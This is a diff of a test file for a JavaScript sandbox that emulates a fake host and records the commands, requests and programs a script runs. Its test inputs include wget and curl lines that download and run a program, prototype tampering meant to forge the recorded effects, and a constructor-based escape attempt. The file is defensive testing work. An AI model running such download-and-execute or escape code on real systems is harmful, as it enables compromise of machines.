@@ -2,7 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { scriptJob } from '../javascript/job.ts'
 import { openJavascript } from '../javascript/worker.ts'
 import { Sandbox } from '../sandbox.ts'
-import type { World } from './scene.ts'
+import type { FakeHost } from './host.ts'
 
 let sandbox: Sandbox
 
@@ -11,7 +11,7 @@ beforeAll(() => {
 })
 afterAll(() => sandbox.close())
 
-const WORLD: World = {
+const WORLD: FakeHost = {
   files: { '/etc/passwd': 'root:x:0:0:root:/root:/bin/sh\n', '/juice-shop/package.json': '{"name":"shop"}' },
   env: { NODE_ENV: 'production' },
   cwd: '/juice-shop',
@@ -19,7 +19,7 @@ const WORLD: World = {
   hostname: 'fruit-1',
 }
 
-const run = (source: string) => sandbox.inWorld({ source, owner: 'anna' }, WORLD)
+const run = (source: string) => sandbox.runOnFakeHost({ source, owner: 'anna' }, WORLD)
 
 describe('a script in a pretend world', () => {
   it.each([
@@ -56,9 +56,9 @@ describe('a script in a pretend world', () => {
 
   it('downloads a program and runs it, and all of it is told', async () => {
     const line = 'wget -O malware https://example.org/a/malware?raw=true && chmod +x malware && ./malware'
-    const { deeds, error } = await run(`require('child_process').exec(${JSON.stringify(line)})`)
+    const { effects, error } = await run(`require('child_process').exec(${JSON.stringify(line)})`)
     expect(error).toBeUndefined()
-    expect(deeds).toEqual({
+    expect(effects).toEqual({
       commands: [line],
       requests: ['https://example.org/a/malware?raw=true'],
       ran: [{ program: '/juice-shop/malware', from: 'https://example.org/a/malware?raw=true' }],
@@ -66,14 +66,14 @@ describe('a script in a pretend world', () => {
   })
 
   it('cannot run what may not run', async () => {
-    const { deeds } = await run("require('child_process').exec('curl -o x http://a.b/x && ./x')")
-    expect(deeds.ran).toEqual([])
+    const { effects } = await run("require('child_process').exec('curl -o x http://a.b/x && ./x')")
+    expect(effects.ran).toEqual([])
   })
 
   it('tells what it did even where it fails afterwards', async () => {
-    const { deeds, error } = await run("require('child_process').exec('id'); throw new Error('later')")
+    const { effects, error } = await run("require('child_process').exec('id'); throw new Error('later')")
     expect(error?.message).toBe('later')
-    expect(deeds.commands).toEqual(['id'])
+    expect(effects.commands).toEqual(['id'])
   })
 })
 
@@ -100,15 +100,15 @@ const FORGED = [
 
 describe('what a script did is told by the machine, not by the script:', () => {
   it.each(FORGED)('whatever becomes of %s', async (_what, source) => {
-    expect((await run(source)).deeds).toEqual({ commands: [], requests: [], ran: [] })
+    expect((await run(source)).effects).toEqual({ commands: [], requests: [], ran: [] })
   })
 
   it('what it really did is told all the same', async () => {
-    const { deeds } = await run(
+    const { effects } = await run(
       "Array.prototype.push = () => 0; Map.prototype.get = () => 0; JSON.parse = () => ({}); require('child_process').exec('wget -O a http://b.c/a && chmod +x a && ./a')",
     )
-    expect(deeds.requests).toEqual(['http://b.c/a'])
-    expect(deeds.ran).toEqual([{ program: '/juice-shop/a', from: 'http://b.c/a' }])
+    expect(effects.requests).toEqual(['http://b.c/a'])
+    expect(effects.ran).toEqual([{ program: '/juice-shop/a', from: 'http://b.c/a' }])
   })
 
   it('what was done before time ran out is told as well', async () => {
@@ -117,12 +117,12 @@ describe('what a script did is told by the machine, not by the script:', () => {
     const job = scriptJob({ source, deadlineMs: 100, owner: 'anna' }, { world: WORLD })
     expect(work(job).outcome).toMatchObject({
       fault: { timedOut: true },
-      deeds: { commands: ['id'], requests: [], ran: [] },
+      effects: { commands: ['id'], requests: [], ran: [] },
     })
   })
 
   it('the machine hands out nothing that leads to its own realm', async () => {
-    const { deeds, value } = await run(
+    const { effects, value } = await run(
       `let found = 'nothing'
       try { require('fs').readFileSync('/missing') } catch (error) {
         error.constructor.constructor('Array.prototype.push = function () { this[0] = 1 }; Map.prototype.has = () => true')()
@@ -132,15 +132,15 @@ describe('what a script did is told by the machine, not by the script:', () => {
       found`,
     )
     expect(value).toBe('ENOENT')
-    expect(deeds.commands).toEqual(['echo hi'])
+    expect(effects.commands).toEqual(['echo hi'])
   })
 
   it('no more of it than one can read', async () => {
-    const { deeds } = await run(
+    const { effects } = await run(
       "for (let i = 0; i < 60; i++) { try { require('child_process').execSync('true ' + 'x'.repeat(5000)); fetch('y'.repeat(5000)) } catch {} } 1",
     )
-    expect(deeds.commands.length).toBeGreaterThan(10)
-    expect(JSON.stringify(deeds).length).toBeLessThan(64 << 10)
+    expect(effects.commands.length).toBeGreaterThan(10)
+    expect(JSON.stringify(effects).length).toBeLessThan(64 << 10)
   })
 })
 
@@ -152,7 +152,7 @@ describe('what a script brings is bounded:', () => {
     ['its globals', { source: '1', globals: { long } }, WORLD],
     ['its world', { source: '1' }, { ...WORLD, files: { '/a': `ж${long}` } }],
   ])('%s', async (_what, job, world) => {
-    const { error } = await sandbox.inWorld({ ...job, owner: 'anna' }, world)
+    const { error } = await sandbox.runOnFakeHost({ ...job, owner: 'anna' }, world)
     expect(error).toMatchObject({ name: 'RangeError', message: expect.stringContaining('too long') })
   })
 
@@ -161,7 +161,10 @@ describe('what a script brings is bounded:', () => {
       Array.from({ length: 8 }, (_, index) => [`/${index}`, `ж${'\0'.repeat((64 << 10) - 2)}`]),
     )
     const job = { source: "require('fs').readFileSync('/7').length", owner: 'anna' }
-    expect(await sandbox.inWorld(job, { ...WORLD, files })).toMatchObject({ value: 65_535, error: undefined })
+    expect(await sandbox.runOnFakeHost(job, { ...WORLD, files })).toMatchObject({
+      value: 65_535,
+      error: undefined,
+    })
   })
 })
 
